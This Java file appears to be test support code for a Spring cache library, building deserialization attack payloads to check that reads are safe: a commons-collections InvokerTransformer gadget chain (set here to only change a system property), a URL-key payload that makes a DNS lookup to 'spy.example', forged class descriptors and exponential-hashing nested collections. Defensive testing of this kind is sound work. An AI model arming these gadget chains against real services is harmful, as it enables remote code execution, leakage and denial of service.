package io.emdb.spring.cache;

import io.emdb.spring.cache.protocols.emdbdns.Handler;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.ObjectStreamClass;
import java.io.Serial;
import java.io.Serializable;
import java.lang.reflect.Field;
import java.net.URL;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.Collection;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Supplier;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;

/** Serialized bytes as attackers make them. What they would do here is to set a property. */
final class Payloads {

  /** Set by the gadgets that run. */
  static final String PROPERTY = "emdb.test.attacked";

  private Payloads() {}

  /** Serializes without any check. */
  static byte[] bytes(Object value) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
      out.writeObject(value);
    }
    return bytes.toByteArray();
  }

  /** Reads without any check, as code that is not careful does. */
  static Object readCarelessly(byte[] bytes) throws Exception {
    try (ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(bytes))) {
      return in.readObject();
    }
  }

  /**
   * The chain by which commons-collections 3.2.1 calls any method of any class when a map is read:
   * the key of the map is hashed, which asks a lazy map, which transforms.
   */
  static byte[] commonsCollections() throws Exception {
    ChainedTransformer chain = new ChainedTransformer(new Transformer[] {x -> x});
    Map<?, ?> lazy = LazyMap.decorate(new HashMap<>(), chain);
    HashMap<Object, Object> trigger = new HashMap<>();
    trigger.put(new TiedMapEntry(lazy, "key"), "value");
    lazy.remove("key"); // the line above has made it
    Field transformers = ChainedTransformer.class.getDeclaredField("iTransformers");
    transformers.setAccessible(true);
    transformers.set(chain, callsSetProperty());
    return bytes(trigger);
  }

  private static Transformer[] callsSetProperty() {
    return new Transformer[] {
      new ConstantTransformer(System.class),
      new InvokerTransformer(
          "getMethod",
          new Class<?>[] {String.class, Class[].class},
          new Object[] {"setProperty", new Class<?>[] {String.class, String.class}}),
      new InvokerTransformer(
          "invoke",
          new Class<?>[] {Object.class, Object[].class},
          new Object[] {null, new Object[] {PROPERTY, "by commons-collections"}})
    };
  }

  /** A map with a URL for a key: to read it looks up the host, which tells its owner. */
  static byte[] url() throws Exception {
    Map<Object, Object> map = new HashMap<>();
    map.put(new URL(null, "emdbdns://spy.example/", new Handler()), "value");
    return bytes(map);
  }

  /** An object without fields that claims to be of a class. */
  static byte[] claimingToBe(String className) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ObjectOutputStream out =
        new ObjectOutputStream(bytes) {
          @Override
          protected void writeClassDescriptor(ObjectStreamClass description) throws IOException {
            writeUTF(className);
            writeLong(1); // serialVersionUID
            writeByte(2); // serializable, without methods of its own
            writeShort(0); // fields
          }
        }) {
      out.writeObject(new StandIn());
    }
    return bytes.toByteArray();
  }

  private static final class StandIn implements Serializable {
    @Serial private static final long serialVersionUID = 1L;
  }

  /**
   * Sets within sets, each of them in two of the sets above: to hash the first is 2^levels work.
   */
  static byte[] setsWithinSets(int levels) throws IOException {
    Set<Object> first = new HashSet<>();
    Set<Object> left = first;
    Set<Object> right = new HashSet<>();
    for (int i = 0; i < levels; i++) {
      Set<Object> nextLeft = new HashSet<>(Set.of("left"));
      Set<Object> nextRight = new HashSet<>();
      for (Set<Object> above : List.of(left, right)) {
        above.add(nextLeft); // while it is small, and so its hash cheap
        above.add(nextRight);
      }
      left = nextLeft;
      right = nextRight;
    }
    return bytes(first);
  }

  /** The same with lists, which are hashed only when the outermost is put into a collection. */
  static byte[] listsWithin(Collection<Object> outermost, int levels) throws IOException {
    List<Object> list = new ArrayList<>();
    outermost.add(list);
    return bytesOfLists(outermost, list, levels);
  }

  /** The same with lists as the key of a map. */
  static byte[] listsAsKey(Map<Object, Object> map, int levels) throws IOException {
    List<Object> list = new ArrayList<>();
    map.put(list, "value");
    return bytesOfLists(map, list, levels);
  }

  private static byte[] bytesOfLists(Object outermost, List<Object> first, int levels)
      throws IOException {
    List<Object> list = first;
    for (int i = 0; i < levels; i++) {
      List<Object> next = new ArrayList<>();
      list.add(next);
      list.add(next);
      list = next;
    }
    return bytes(outermost);
  }

  /** Collections within one another, without any sharing. */
  static byte[] nested(Supplier<Collection<Object>> kind, int levels) throws IOException {
    Collection<Object> first = kind.get();
    Collection<Object> inner = first;
    for (int i = 0; i < levels; i++) {
      Collection<Object> next = kind.get();
      inner.add(next);
      inner = next;
    }
    return bytes(first);
  }

  /** Replaces the four bytes that end at a distance from the end. */
  static byte[] withInt(byte[] bytes, int distanceFromEnd, int number) {
    byte[] changed = bytes.clone();
    ByteBuffer.wrap(changed).putInt(changed.length - distanceFromEnd, number);
    return changed;
  }
}
